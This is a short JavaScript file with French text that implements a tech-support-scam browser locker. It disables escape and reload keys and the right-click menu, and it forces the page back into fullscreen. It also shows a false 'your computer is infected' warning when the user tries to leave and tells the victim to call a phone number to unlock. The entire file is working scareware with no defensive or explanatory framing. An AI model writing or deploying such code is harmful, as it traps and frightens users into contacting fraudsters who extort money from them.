function bloque(e) {
  if (e.keyCode === 27 || e.keyCode === 122 || e.keyCode === 116 || (e.ctrlKey && e.keyCode === 87)) { e.preventDefault(); return false; }
}
function plein() {
  var d = document.documentElement;
  if (d.requestFullscreen) d.requestFullscreen(); else if (d.webkitRequestFullscreen) d.webkitRequestFullscreen();
}
document.addEventListener("keydown", bloque);
document.addEventListener("contextmenu", function (e) { e.preventDefault(); });
document.addEventListener("fullscreenchange", function () { if (!document.fullscreenElement) setTimeout(plein, 100); });
document.addEventListener("click", plein);
window.onbeforeunload = function () { return "Votre ordinateur est infecté"; };
document.getElementById("codeInput").addEventListener("keyup", function (e) {
  if (e.key !== "Enter") return;
  if (this.value === "0000") document.exitFullscreen();
  else document.getElementById("err").textContent = "Code incorrect. Appelez immédiatement le +33 0 00 00 00 00";
});
